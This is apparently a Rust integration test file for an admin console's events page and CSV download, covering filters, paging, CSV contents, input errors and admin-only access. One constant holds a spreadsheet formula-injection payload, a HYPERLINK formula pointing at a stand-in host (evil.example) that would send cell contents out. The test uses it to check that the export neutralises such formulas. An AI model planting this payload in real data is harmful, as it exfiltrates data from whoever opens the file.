//! The console's events page and its CSV download: each filter narrows the
//! rows (type, user, address, time range), pages keep the filters, the CSV
//! holds the page's rows (all of them, past one chunk) with formula cells
//! defused, bad filters are a 400 page with a message.

use crate::helpers::console::Console;
use crate::helpers::on_both_backends;
use crate::helpers::{content_type, header, Backend, Sent, TestApp, PASSWORD};
use multitoken::db::events::{self as event_rows, What};
use multitoken::domain::client_address::TrustedProxies;
use multitoken::domain::event::{Actor, EventKind, EventSource};
use multitoken::domain::Timestamp;
use reqwest::header::CONTENT_DISPOSITION;
use reqwest::{Method, StatusCode};
use serde_json::json;

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// 2026-01-01T10:00:00Z, in milliseconds.
const TEN_O_CLOCK: i64 = 1_767_261_600_000;
const MINUTE: i64 = 60_000;

/// An app behind a proxy on 127.0.0.1, so that `X-Forwarded-For` sets the
/// address events record, with the admin `root` signed in to the console
/// (whose own sign-in comes from 127.0.0.1).
async fn signed_in(backend: Backend) -> TestApp {
    TestApp::spawn_with(backend, |settings| {
        settings.server.trusted_proxies = TrustedProxies::parse("127.0.0.1").expect("proxies");
    })
    .await
}

async fn console_of(app: &TestApp) -> Console<'_> {
    app.create_user("root", "", true);
    let mut console = Console::new(app);
    let response = console.sign_in("root", PASSWORD).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    console
}

/// A login on `client` from `from` (each test's logins use different
/// clients, so that none revokes another as a relogin).
async fn log_in(app: &TestApp, login: (&str, &str, &str), from: &str, agent: &str) {
    let (username, password, client) = login;
    let response = app
        .request(Method::POST, "/login")
        .header("X-Forwarded-For", from)
        .header("User-Agent", agent)
        .json(&json!({"username": username, "password": password, "client": client}))
        .sent()
        .await;
    let expected = if password == PASSWORD {
        StatusCode::OK
    } else {
        StatusCode::BAD_REQUEST
    };
    assert_eq!(response.status(), expected, "{username} from {from}");
}

fn record(app: &TestApp, kind: EventKind, user_id: i64, ip: &str, at: i64) {
    let source = EventSource {
        actor: Actor::Owner,
        ip: Some(ip.parse().expect("address")),
        user_agent: Some("test/1.0".to_owned()),
    };
    let what = What::to_user(kind, user_id).on_client("web");
    event_rows::record(&mut app.connection(), &source, what, Timestamp(at)).expect("record");
}

/// One row of the events table: its type and the text of its cells.
#[derive(Debug, Clone, PartialEq)]
struct Row {
    kind: String,
    /// The `datetime` of its `time` (RFC 3339).
    at: String,
    html: String,
}

fn rows(page: &str) -> Vec<Row> {
    page.split("<tr data-type=\"")
        .skip(1)
        .map(|rest| {
            let html = rest.split("</tr>").next().unwrap().to_owned();
            let kind = html.split('"').next().unwrap().to_owned();
            let at = html
                .split("datetime=\"")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap()
                .to_owned();
            Row { kind, at, html }
        })
        .collect()
}

fn count_of(page: &str) -> i64 {
    let start = page.find("<span class=\"count\">").expect("a count") + 20;
    page[start..]
        .split(' ')
        .next()
        .unwrap()
        .parse()
        .expect("a number")
}

/// An attribute of the first element that has `marker` in its tag.
fn attribute_after(page: &str, marker: &str, name: &str) -> String {
    let start = page
        .find(marker)
        .unwrap_or_else(|| panic!("{marker} in page"));
    let tag = page[start..].split('>').next().unwrap();
    let value = tag
        .split(&format!("{name}=\""))
        .nth(1)
        .unwrap_or_else(|| panic!("{name} in {tag}"));
    value.split('"').next().unwrap().replace("&amp;", "&")
}

/// The CSV download at `path`: its header row and records.
async fn csv_of(console: &mut Console<'_>, path: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let response = console.get(path).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    assert_eq!(content_type(&response), Some("text/csv; charset=utf-8"));
    assert_eq!(
        header(&response, CONTENT_DISPOSITION),
        Some("attachment; filename=\"events.csv\"")
    );
    let body = response.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_ref());
    let head = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let records = reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (head, records)
}

#[on_both_backends]
async fn each_filter_narrows_the_events_and_they_combine(backend: Backend) {
    let app = signed_in(backend).await;
    let mut console = console_of(&app).await;
    let alice = app.create_user("alice", "", false);
    let bob = app.create_user("bob", "", false);
    log_in(&app, ("alice", PASSWORD, "web"), "198.51.100.7", "curl/8.0").await;
    log_in(&app, ("bob", "wrong", "web"), "203.0.113.9", "curl/8.0").await;
    log_in(
        &app,
        ("alice", PASSWORD, "phone"),
        "203.0.113.9",
        "curl/8.0",
    )
    .await;

    let all = console.page("/console/events").await;
    for needle in [
        "id=\"filters\"",
        "id=\"type\"",
        "id=\"user\"",
        "id=\"ip\"",
        "id=\"from\"",
        "id=\"to\"",
        "id=\"filter\"",
        "id=\"csv\"",
        "<table class=\"events\">",
        "From (UTC)",
    ] {
        assert!(all.contains(needle), "{needle}");
    }
    // Root's sign-in and user_created, alice's and bob's user_created, two
    // logins and a failed one.
    let kinds: Vec<String> = rows(&all).into_iter().map(|r| r.kind).collect();
    assert_eq!(count_of(&all), 7, "{kinds:?}");
    assert_eq!(rows(&all).len(), 7);
    assert!(!all.contains(" style="), "no inline style (CSP)");

    let failed = rows(&console.page("/console/events?type=login_failed").await);
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert!(failed[0]
        .html
        .contains(&format!("href=\"/console/users/{bob}\">bob</a>")));
    assert!(failed[0].html.contains("203.0.113.9"));

    let page = console.page("/console/events?user=ALICE").await;
    let of_alice = rows(&page);
    let kinds: Vec<&str> = of_alice.iter().map(|row| row.kind.as_str()).collect();
    assert_eq!(kinds, ["login", "login", "user_created"], "newest first");
    let link = format!("href=\"/console/users/{alice}\">alice</a>");
    assert!(of_alice.iter().all(|row| row.html.contains(&link)));
    assert!(
        page.contains("value=\"ALICE\""),
        "the form keeps the filter"
    );

    let from_there = rows(&console.page("/console/events?ip=203.0.113.9").await);
    assert_eq!(from_there.len(), 2, "{from_there:?}");
    let mapped = console
        .page("/console/events?ip=%3A%3Affff%3A203.0.113.9")
        .await;
    assert_eq!(rows(&mapped).len(), 2, "an IPv4-mapped address is the same");

    let both = rows(
        &console
            .page("/console/events?type=login&ip=203.0.113.9&user=alice")
            .await,
    );
    assert_eq!(both.len(), 1, "{both:?}");
    assert!(both[0].html.contains("203.0.113.9"));
    assert_eq!(both[0].kind, "login");

    let nobody = console.page("/console/events?user=nobody").await;
    assert_eq!(count_of(&nobody), 0, "an unknown user has no events");
    assert!(rows(&nobody).is_empty());
}

#[on_both_backends]
async fn from_and_to_bound_the_time_range(backend: Backend) {
    let app = signed_in(backend).await;
    let mut console = console_of(&app).await;
    let alice = app.create_user("alice", "", false);
    for minutes in [0, 30, 60] {
        record(
            &app,
            EventKind::Logout,
            alice,
            "192.0.2.1",
            TEN_O_CLOCK + minutes * MINUTE,
        );
    }
    let ats = |page: &str| -> Vec<String> { rows(page).into_iter().map(|row| row.at).collect() };

    let range = console
        .page("/console/events?from=2026-01-01T10:00&to=2026-01-01T11:00")
        .await;
    assert_eq!(
        ats(&range),
        ["2026-01-01T10:30:00.000Z", "2026-01-01T10:00:00.000Z"],
        "from is included, to is not"
    );
    assert!(range.contains("value=\"2026-01-01T10:00\""));
    let with_seconds = console
        .page("/console/events?from=2026-01-01T10:00:01&type=logout")
        .await;
    assert_eq!(
        ats(&with_seconds),
        ["2026-01-01T11:00:00.000Z", "2026-01-01T10:30:00.000Z"]
    );
    let before = console.page("/console/events?to=2026-01-01T10:30").await;
    assert_eq!(ats(&before), ["2026-01-01T10:00:00.000Z"]);

    // An IPv6 address is matched as recorded (lower case, shortest form),
    // and may break after a colon on the page.
    record(
        &app,
        EventKind::Login,
        alice,
        "2001:db8::1",
        TEN_O_CLOCK + 120 * MINUTE,
    );
    let v6 = rows(&console.page("/console/events?ip=2001:DB8:0::1").await);
    assert_eq!(v6.len(), 1, "{v6:?}");
    assert!(
        v6[0].html.contains("2001:<wbr>db8:<wbr>:<wbr>1"),
        "{}",
        v6[0].html
    );
}

#[on_both_backends]
async fn pages_keep_the_filters_and_a_page_past_the_last_is_not_found(backend: Backend) {
    let app = signed_in(backend).await;
    let mut console = console_of(&app).await;
    let alice = app.create_user("alice", "", false);
    let bob = app.create_user("bob", "", false);
    {
        let mut conn = app.connection();
        multitoken::db::transaction(&mut conn, |conn| {
            for n in 0..60 {
                let source = EventSource::without_request(Actor::Owner);
                let at = Timestamp(TEN_O_CLOCK + n * MINUTE);
                event_rows::record(conn, &source, What::to_user(EventKind::Login, alice), at)?;
                event_rows::record(conn, &source, What::to_user(EventKind::Login, bob), at)?;
            }
            diesel::QueryResult::Ok(())
        })
        .expect("events");
    }
    let first = console.page("/console/events?type=login&user=alice").await;
    assert_eq!(count_of(&first), 60);
    assert_eq!(rows(&first).len(), 50);
    let next = attribute_after(&first, "rel=\"next\"", "href");
    assert_eq!(next, "/console/events?type=login&user=alice&page=2");
    assert_eq!(
        attribute_after(&first, "id=\"csv\"", "href"),
        "/console/events.csv?type=login&user=alice"
    );
    let second = console.page(&next).await;
    let second_rows = rows(&second);
    assert_eq!(second_rows.len(), 10);
    assert!(second_rows.iter().all(|row| row.kind == "login"));
    let link = format!("href=\"/console/users/{alice}\"");
    assert!(second_rows.iter().all(|row| row.html.contains(&link)));
    assert_eq!(
        attribute_after(&second, "rel=\"prev\"", "href"),
        "/console/events?type=login&user=alice&page=1"
    );
    assert!(!second.contains("rel=\"next\""));

    let past = console
        .get("/console/events?type=login&user=alice&page=3")
        .await;
    assert_eq!(past.status(), StatusCode::NOT_FOUND);
    let past = console.get("/console/events?user=nobody&page=2").await;
    assert_eq!(past.status(), StatusCode::NOT_FOUND);
}

#[on_both_backends]
async fn the_csv_holds_the_filtered_rows_newest_first_with_formulas_defused(backend: Backend) {
    let app = signed_in(backend).await;
    let mut console = console_of(&app).await;
    let alice = app.create_user("alice", "", false);
    app.create_user("bob", "", false);
    log_in(&app, ("alice", PASSWORD, "web"), "198.51.100.7", HYPERLINK).await;
    log_in(&app, ("bob", "wrong", "web"), "198.51.100.7", "curl/8.0").await;
    log_in(&app, ("alice", "wrong", "web"), "203.0.113.9", "curl/8.0").await;

    let filters = "ip=198.51.100.7";
    let page = rows(&console.page(&format!("/console/events?{filters}")).await);
    let (head, records) = csv_of(&mut console, &format!("/console/events.csv?{filters}")).await;
    assert_eq!(
        head,
        [
            "id",
            "at",
            "type",
            "user_id",
            "username",
            "client",
            "actor",
            "ip",
            "user_agent",
            "detail",
            "sid"
        ]
    );
    let page_rows: Vec<(&str, &str)> = page
        .iter()
        .map(|row| (row.kind.as_str(), row.at.as_str()))
        .collect();
    let csv_rows: Vec<(&str, &str)> = records
        .iter()
        .map(|record| (record[2].as_str(), record[1].as_str()))
        .collect();
    assert_eq!(csv_rows, page_rows, "the same rows as the page");
    assert_eq!(csv_rows.len(), 2);
    let login = &records[1];
    assert_eq!(login[2], "login");
    assert_eq!(login[3], alice.to_string());
    assert_eq!(login[4], "alice");
    assert_eq!(login[5], "web");
    assert_eq!(login[6], "self");
    assert_eq!(login[7], "198.51.100.7");
    assert_eq!(login[8], format!("'{HYPERLINK}"), "a formula is made text");
    assert_eq!(records[0][2], "login_failed");
    assert_eq!(records[0][4], "bob");
    assert!(records[0][0].parse::<i64>().unwrap() > login[0].parse::<i64>().unwrap());

    // The page shows the user agent shortened, whole on hover, escaped.
    let agent = &page[1].html;
    assert!(agent.contains("class=\"short\""), "{agent}");
    assert!(agent.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1"));

    let (_, none) = csv_of(&mut console, "/console/events.csv?user=nobody").await;
    assert!(none.is_empty(), "an unknown user: the header row only");
}

#[on_both_backends]
async fn the_csv_is_not_cut_at_a_page_or_a_chunk(backend: Backend) {
    let app = signed_in(backend).await;
    let mut console = console_of(&app).await;
    let alice = app.create_user("alice", "", false);
    {
        let mut conn = app.connection();
        multitoken::db::transaction(&mut conn, |conn| {
            let source = EventSource::without_request(Actor::Owner);
            for n in 0..1_201 {
                let at = Timestamp(TEN_O_CLOCK + n);
                event_rows::record(conn, &source, What::to_user(EventKind::Logout, alice), at)?;
            }
            diesel::QueryResult::Ok(())
        })
        .expect("events");
    }
    let (_, records) = csv_of(&mut console, "/console/events.csv?type=logout").await;
    assert_eq!(records.len(), 1_201, "more than two chunks of 500");
    let ids: Vec<i64> = records.iter().map(|r| r[0].parse().unwrap()).collect();
    assert!(
        ids.windows(2).all(|pair| pair[0] > pair[1]),
        "newest first, no repeat"
    );
    assert!(records.iter().all(|r| r[2] == "logout" && r[4] == "alice"));
    let (_, all) = csv_of(&mut console, "/console/events.csv").await;
    assert_eq!(
        all.len(),
        1_201 + 3,
        "and the user_created and sign-in events"
    );
}

#[on_both_backends]
async fn bad_filter_values_are_a_400_page_that_says_what_is_wrong(backend: Backend) {
    let app = signed_in(backend).await;
    let mut console = console_of(&app).await;
    let long = "a".repeat(151);
    let cases = [
        ("type=nope", "there is no event type &quot;nope&quot;"),
        ("ip=300.1.2.3", "is not an IP address"),
        (
            "from=yesterday",
            "From: &quot;yesterday&quot; is not a date and time",
        ),
        (
            "to=2026-01-01",
            "To: &quot;2026-01-01&quot; is not a date and time",
        ),
        (
            "from=2026-01-02T00:00&to=2026-01-01T00:00",
            "From is after To",
        ),
        (&format!("user={long}"), "User: too long"),
        ("ip=%FF", "could not be read"),
    ];
    for (query, message) in cases {
        for path in ["/console/events", "/console/events.csv"] {
            let response = console.get(&format!("{path}?{query}")).await;
            assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{path}?{query}");
            assert_eq!(content_type(&response), Some("text/html; charset=utf-8"));
            let page = response.text().await.unwrap();
            assert!(page.contains(message), "{query}: {page}");
            assert!(page.contains("id=\"filter-error\""), "{query}");
            assert!(page.contains("id=\"filters\""), "the form to correct it");
        }
    }
}

#[on_both_backends]
async fn the_events_pages_need_a_signed_in_admin(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut console = Console::new(&app);
    for path in ["/console/events", "/console/events.csv?type=login"] {
        console.assert_sent_to_sign_in(path).await;
    }
}
